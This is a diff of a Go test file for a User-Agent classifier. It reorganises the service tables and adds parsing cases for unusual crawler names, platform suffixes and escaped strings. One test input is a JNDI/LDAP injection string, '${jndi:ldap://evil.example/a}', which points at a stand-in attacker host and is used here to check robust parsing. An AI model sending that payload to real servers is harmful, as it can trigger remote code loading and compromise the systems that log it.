@@ -95,32 +95,6 @@ var identifyTests = map[string][]identifyTest{
 		{"EXABOT/3.0", "EXABOT", Search, FromRegistry},
 		{"Exabot-Images/3.0", "Exabot-Images", Search, FromRegistry},
 	},
-	// As their operators document them, or as they are seen; the registry names
-	// its source for each.
-	"services": {
-		{"Stripe/1.0 (+https://stripe.com/docs/webhooks)", "Stripe", Service, FromRegistry},
-		{"GitHub-Hookshot/044aadd", "GitHub-Hookshot", Service, FromRegistry},
-		{"PayPal IPN ( https://www.paypal.com/ipn )", "PayPal IPN", Service, FromRegistry},
-		{"Amazon Simple Notification Service Agent", "Amazon Simple Notification Service Agent", Service, FromRegistry},
-		{"LineBotWebhook/2.0", "LineBotWebhook", Service, FromRegistry},
-		{"Patreon HTTP Robot", "Patreon HTTP Robot", Service, FromRegistry},
-		{"DigiCert DCV Bot/1.1", "DigiCert DCV Bot", Service, FromRegistry},
-		{"Mozilla/5.0 (compatible; Let's Encrypt validation server; +https://www.letsencrypt.org)", "Let's Encrypt validation server", Service, FromRegistry},
-		{"kube-probe/1.31", "kube-probe", Service, FromRegistry},
-		{"ELB-HealthChecker/2.0", "ELB-HealthChecker", Service, FromRegistry},
-		{"GoogleHC/1.0", "GoogleHC", Service, FromRegistry},
-		{"Lemmy/0.19.5; +https://lemmy.example", "Lemmy", Service, FromRegistry},
-		{"Misskey/2024.5.0 (https://misskey.example)", "Misskey", Service, FromRegistry},
-		{"Microsoft-BotFramework/3.1 (+https://botframework.com/ua)", "Microsoft-BotFramework", Service, FromRegistry},
-	},
-	"services that nobody has heard of": {
-		{"Acme-Webhooks/1.0", "Acme-Webhooks", Other, FromTool},
-		{"AcmeUptimeBot/1.0 (+https://acme.example)", "AcmeUptimeBot", Other, FromTool},
-		{"AcmeUnfurlBot/1.0", "AcmeUnfurlBot", Other, FromTool},
-		{"AcmeRssBot/2.1", "AcmeRssBot", Other, FromTool},
-		{"acme-dcv-robot", "acme-dcv-robot", Other, FromTool},
-		{"Acme Notification Agent", "Acme Notification Agent", Other, FromTool},
-	},
 	"an app that has a crawler's name": {
 		{"Pinterest/0.2 (+https://www.pinterest.com/bot.html)", "Pinterest", GenericCrawler, FromRegistry},
 		{"Pinterest for Android/9.0.4 (ACME; 9)", "Pinterest", Other, FromFirstProduct},
@@ -138,7 +112,16 @@ var identifyTests = map[string][]identifyTest{
 		// A hosting platform's suffix.
 		{"Mozilla/5.0 (compatible; AhrefsBot/7.0; +http://ahrefs.com/robot/) AppEngine-Google; (+http://code.google.com/appengine; appid: s~example)", "AhrefsBot", SEO, FromRegistry},
 		{"ExampleBot/1.0 AppEngine-Google; (+http://code.google.com/appengine; appid: s~example)", "ExampleBot", GenericCrawler, FromSuffix},
-		{"AppEngine-Google; (+http://code.google.com/appengine; appid: s~example)", "AppEngine-Google", Library, FromLibrary},
+		// A program that names only the platform that it runs on.
+		{"AppEngine-Google; (+http://code.google.com/appengine; appid: s~example)", "example", Library, FromLibrary},
+		{chrome + " AppEngine-Google; (+http://code.google.com/appengine; appid: example)", "example", Library, FromLibrary},
+		{"AppEngine-Google; (+http://code.google.com/appengine)", "AppEngine-Google", Library, FromLibrary},
+		// A name instead of a version.
+		{"foo/FooBot (Foo; http://foo.example/crawler)", "FooBot", GenericCrawler, FromRobotContact},
+		{"foo/foobar (crawler; http://foo.example/about)", "foo", GenericCrawler, FromSuffix},
+		// The words before a name that says it is a robot's are not of it.
+		{chrome + " Acme Group AcmeBot", "AcmeBot", GenericCrawler, FromSuffix},
+		{chrome + " ### This is a crawler", "crawler", GenericCrawler, FromSuffix},
 		// A crawler before the library that it is built with.
 		{"http.rb/5.2.0 (Mastodon/4.3.0; +https://social.example/)", "Mastodon", Service, FromRegistry},
 		{"W3C-checklink/4.5 [4.160] libwww-perl/5.823", "W3C-checklink", Monitor, FromRegistry},
@@ -215,34 +198,43 @@ var identifyTests = map[string][]identifyTest{
 		{"Mozilla/5.0 (Linux; Android 10; K) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/137.0.0.0 YaBrowser/25.6.0.0 Mobile Safari/537.36", "", Browser, NoEvidence},
 		{"ShopApp/3.1 CFNetwork/1490.0.4 Darwin/23.2.0", "ShopApp", Other, FromFirstProduct},
 		{"${jndi:ldap://evil.example/a}", "jndi", Other, FromFirstProduct},
+		{"$BotName/$BotVersion [en] (UNIX; U)", "BotName", Other, FromFirstProduct},
+		{"ShopApp/3.1 iPhone Mozilla/5.0 (iPhone) (angebot: \"x\")", "ShopApp", Other, FromFirstProduct},
 	},
 	"escapes": {
 		{"Mozilla/5.0%20(compatible;%20GPTBot/1.2;%20+https://openai.com/gptbot)", "GPTBot", AITraining, FromRegistry},
 		{"Mozilla/5.0+(compatible;+UptimeRobot/2.0;+http://www.uptimerobot.com/)", "UptimeRobot", Monitor, FromRegistry},
 		{"'Mozilla/5.0 (compatible; GPTBot/1.2)'", "GPTBot", AITraining, FromRegistry},
+		{"user_agent: foo-crawler", "foo-crawler", GenericCrawler, FromSuffix},
 		{"User-Agent: Mozilla/5.0 (Windows NT 10.0; Win64; x64) Gecko/20100101 Firefox/140.0", "", Browser, NoEvidence},
 		{"Mozilla/5.0 \x00GPTBot\x00", "GPTBot", AITraining, FromRegistry},
 	},
 }
 
+var identifyTables = []map[string][]identifyTest{identifyTests, serviceTests}
+
 func TestIdentify(t *testing.T) {
-	for rule, tests := range identifyTests {
-		t.Run(rule, func(t *testing.T) {
-			for _, tt := range tests {
-				id := Identify(tt.ua)
-				if id.Token != tt.token || id.Class != tt.class || id.Evidence != tt.evidence {
-					t.Errorf("%q\n is %q, class %s, by %s;\nnot %q, class %s, by %s", tt.ua, id.Token, id.Class, id.Evidence, tt.token, tt.class, tt.evidence)
+	for _, table := range identifyTables {
+		for rule, tests := range table {
+			t.Run(rule, func(t *testing.T) {
+				for _, tt := range tests {
+					id := Identify(tt.ua)
+					if id.Token != tt.token || id.Class != tt.class || id.Evidence != tt.evidence {
+						t.Errorf("%q\n is %q, class %s, by %s;\nnot %q, class %s, by %s", tt.ua, id.Token, id.Class, id.Evidence, tt.token, tt.class, tt.evidence)
+					}
 				}
-			}
-		})
+			})
+		}
 	}
 }
 
 // everyUA calls f with all User-Agents of the tables.
 func everyUA(f func(ua string)) {
-	for _, tests := range identifyTests {
-		for _, tt := range tests {
-			f(tt.ua)
+	for _, table := range identifyTables {
+		for _, tests := range table {
+			for _, tt := range tests {
+				f(tt.ua)
+			}
 		}
 	}
 	for _, c := range Default().Crawlers() {
